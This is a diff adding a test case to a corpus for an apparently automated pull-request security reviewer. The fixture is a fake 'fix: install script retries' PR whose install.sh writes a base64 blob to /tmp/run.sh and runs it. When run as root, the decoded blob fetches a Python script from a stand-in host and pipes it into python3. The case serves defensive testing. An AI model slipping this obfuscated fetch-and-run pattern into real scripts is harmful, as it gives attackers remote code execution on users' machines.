@@ -642,6 +642,24 @@ export const CODE_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
   },
   {
+    id: 'code-install-script-decodes-to-file-and-runs',
+    description: "The reviewdog/action-setup payload written in two steps: a \"fix: install script retries\" PR decodes a base64 blob into /tmp/run.sh and runs it with bash, instead of piping it straight into a shell.",
+    fixture: () =>
+      codePr({
+        repo: 'action-setup',
+        number: 3116,
+        title: 'fix: install script retries',
+        files: [
+          {
+            path: 'install.sh',
+            base: lines('#!/bin/bash', 'set -euo pipefail', 'VERSION="${1:-latest}"', 'curl -sfL -o /tmp/tool.tgz "https://github.com/acme/tool/releases/download/${VERSION}/tool_Linux_x86_64.tar.gz"'),
+            head: lines('#!/bin/bash', 'set -euo pipefail', 'VERSION="${1:-latest}"', 'echo "aWYgWyAiJChpZCAtdSkiID0gMCBdOyB0aGVuIGN1cmwgLXNTZiBodHRwczovL2dpc3QuZXhhbXBsZS5pbnZhbGlkL20ucHkgfCBweXRob24zOyBmaQo=" | base64 -d > /tmp/run.sh && bash /tmp/run.sh', 'curl -sfL -o /tmp/tool.tgz "https://github.com/acme/tool/releases/download/${VERSION}/tool_Linux_x86_64.tar.gz"'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
     id: 'code-ci-script-decodes-signing-key',
     description: 'A release script that decodes its signing key from a secret into a file.',
     fixture: () =>
